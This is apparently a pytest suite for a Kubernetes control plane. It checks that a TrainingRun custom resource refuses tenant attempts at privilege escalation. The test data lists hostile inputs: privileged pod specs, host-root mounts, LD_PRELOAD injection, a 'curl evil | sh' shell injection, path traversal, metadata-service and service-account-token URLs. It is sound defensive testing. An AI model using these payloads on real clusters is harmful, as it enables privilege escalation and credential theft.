"""What a tenant may try in a TrainingRun to get more than a training: refused, and without effect where a client asks
the server to overlook unknown fields. (`kubectl --validate=ignore` does that.)"""

from __future__ import annotations

import json
from typing import Any

import pytest

from cluster.controlplane import ControlPlane
from support.crd_cases.case import changed
from support.crd_cases.runs import RUN, checkpoint, dataset, keyed, run, tuned
from support.kube_http import Answer, KubeHttp, collection

pytestmark = pytest.mark.api

POD = {"spec": {"containers": [{"name": "main", "image": "evil", "securityContext": {"privileged": True}}]}}
HOST = [{"name": "host", "hostPath": {"path": "/"}}]

# Fields that would reach a pod, by the place where a tenant may put them. None of them exists.
FIELDS: dict[str, dict[str, Any]] = {
    "pod-template": {"podTemplate": POD},
    "template": {"template": POD},
    "pod-spec-patch": {"podSpecPatch": "containers: [{image: evil}]"},
    "sidecars": {"sidecars": POD["spec"]["containers"]},
    "init-containers": {"initContainers": POD["spec"]["containers"]},
    "image": {"image": "evil"},
    "images": {"images": {"train": "evil"}},
    "image-of-a-stage": {"stages": [{"name": "train", "image": "evil"}]},
    "service-account": {"serviceAccountName": "admin"},
    "volumes": {"volumes": HOST},
    "host-network": {"hostNetwork": True},
    "security-context": {"securityContext": {"privileged": True}},
    "environment": {"env": [{"name": "LD_PRELOAD", "value": "/scratch/evil.so"}]},
    "environment-from-a-secret": {"envFrom": [{"secretRef": {"name": "other"}}]},
    "environment-of-training": {"training": {"env": [{"name": "AWS_ENDPOINT_URL", "value": "http://evil"}]}},
    "command": {"training": {"command": ["sh", "-c", "id"]}},
    "arguments": {"training": {"args": ["--evil"]}},
    "node-selector": {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}},
    "tolerations": {"tolerations": [{"operator": "Exists"}]},
    "resources": {"resources": {"requests": {"cpu": "1000"}}},
    "runtime-class": {"runtimeClassName": "host"},
    "priority": {"priorityClassName": "system-node-critical"},
    "store-of-another-namespace": {"objectStoreRef": {"name": "default", "namespace": "other"}},
    "profile-of-another-namespace": {"profileRef": {"name": "default", "namespace": "other"}},
    "release-of-another-namespace": {
        "training": {"initFrom": {"type": "release", "releaseRef": {"name": "note-v1", "namespace": "other"}}}
    },
    "endpoint": {"endpoint": "http://evil"},
    "bucket": {"bucket": "other"},
    "secret": {"secretRef": {"name": "other"}},
    "credentials": {"credentials": {"secretRef": {"name": "other"}}},
    "publish-elsewhere": {"publish": {"namespace": "other"}},
    "publish-prefix": {"publish": {"prefix": "models/other/"}},
    "publish-version": {"publish": {"version": 1}},
    "queue": {"queueName": "vip"},
    "labels-for-pods": {"podLabels": {"istio.io/rev": "evil"}},
}

# Values that would leave their place.
VALUES: dict[str, dict[str, Any]] = {
    "dataset-of-another-tenant": keyed("datasets/team/../other/a.tar"),
    "dataset-of-another-tenant-in-full": keyed("s3://frc/atoll/../other/a.tar"),
    "dataset-by-backslash": keyed("datasets\\..\\other\\a.tar"),
    "dataset-from-the-metadata-service": keyed("http://169.254.169.254/latest/meta-data/"),
    "dataset-from-a-volume": keyed("pvc://other/a.tar"),
    "dataset-from-a-file": keyed("file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
    "dataset-from-the-root": keyed("/etc/passwd"),
    "dataset-with-a-url-of-its-own": dataset(url="http://evil"),
    "dataset-with-credentials-of-its-own": dataset(secretRef={"name": "other"}),
    "store-by-path": run(objectStoreRef={"name": "../../other/objectstores/default"}),
    "store-of-a-dataset-by-path": dataset(objectStoreRef={"name": "../other"}),
    "profile-by-path": run(profileRef={"name": "../../secrets"}),
    "release-by-path": run(training={"initFrom": {"type": "release", "releaseRef": {"name": "../other/x"}}}),
    "model-of-another-tenant": run(publish={"model": "../other/note"}),
    "channel-of-another-tenant": run(publish={"channel": "../../other/stable"}),
    "weights-without-a-digest": run(training={"initFrom": {"type": "checkpoint", "checkpoint": {"key": "w.h5"}}}),
    "weights-of-another-tenant": checkpoint("weights/../../other/w.h5"),
    "shell-in-a-hyperparameter": tuned(train__steps="500; curl evil | sh"),
    "flag-as-a-hyperparameter": tuned(**{"--model-dir": "/etc"}),
    "environment-as-a-hyperparameter": tuned(LD_PRELOAD="/scratch/evil.so"),
    "compiler-of-ones-own": run(compile=[{"target": "edgetpu; id"}]),
    "endless-training": run(training={"steps": 2147483647}),
    "many-gpus": run(training={"gpus": 1000}),
    "name-that-leaves-its-label": changed(RUN, {"metadata": {"name": "a.b"}}),
}


@pytest.fixture(scope="module")
def server(control_plane: ControlPlane, crds: list[str]) -> KubeHttp:
    return KubeHttp(control_plane)


def _create(server: KubeHttp, document: dict[str, Any], *, strict: bool = True) -> Answer:
    path = collection("TrainingRun", "default")
    return server.send_json("POST", path, document, dry_run=True, strict=strict)


@pytest.mark.parametrize("name", FIELDS)
def test_field_is_refused(server: KubeHttp, name: str) -> None:
    answer = _create(server, run(**FIELDS[name]))
    assert answer.status == 400
    assert "unknown field" in answer.message


@pytest.mark.parametrize("name", FIELDS)
def test_field_has_no_effect_where_it_is_overlooked(server: KubeHttp, name: str) -> None:
    answer = _create(server, run(**FIELDS[name]), strict=False)
    known = _create(server, RUN).body["spec"]
    # A release to start from is what remains of the one attempt that has a known field in it.
    if name == "release-of-another-namespace":
        known["training"]["initFrom"] = {"type": "release", "releaseRef": {"name": "note-v1"}}
    assert answer.body["spec"] == known


@pytest.mark.parametrize("name", VALUES)
def test_value_is_refused(server: KubeHttp, name: str) -> None:
    answer = _create(server, VALUES[name])
    assert answer.status in (400, 422), json.dumps(answer.body)


def test_status_is_not_for_the_tenant(server: KubeHttp) -> None:
    forged = RUN | {"status": {"phase": "Succeeded", "resolved": {"profile": "privileged"}}}
    answer = _create(server, forged)
    assert answer.ok
    assert "status" not in answer.body
